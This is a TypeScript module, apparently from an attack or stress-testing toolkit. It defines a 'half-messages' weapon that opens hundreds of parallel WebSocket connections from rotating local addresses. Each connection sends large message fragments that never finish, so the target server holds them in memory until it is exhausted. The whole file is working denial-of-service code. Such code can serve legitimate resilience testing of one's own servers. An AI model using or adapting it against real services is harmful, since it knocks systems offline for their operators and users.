import { WebSocket } from 'ws';
import { again, inParallel, type Target, type Weapon } from '../target.js';
import { pause, socketOf } from '../wire.js';

const LINES = 300;
const PART = 'x'.repeat(6_000);
const PARTS = 10;
const HOLD_MS = 15_000;

/** Messages that begin and never end: what has come of them waits in memory. */
export const halfMessages: Weapon = {
  name: 'half-messages',
  attack: target => inParallel(LINES, () => again(target, 100, () => speakHalf(target))),
};

async function speakHalf(target: Target): Promise<void> {
  const line = new WebSocket(socketOf(target.address, target.watched), { localAddress: target.from() });
  line.on('error', () => line.terminate());
  const gone = new Promise(resolve => line.once('close', resolve));
  line.once('open', () => {
    for (let part = 0; part < PARTS; part++) line.send(PART, { fin: false });
  });
  await Promise.race([gone, pause(HOLD_MS)]);
  line.terminate();
}
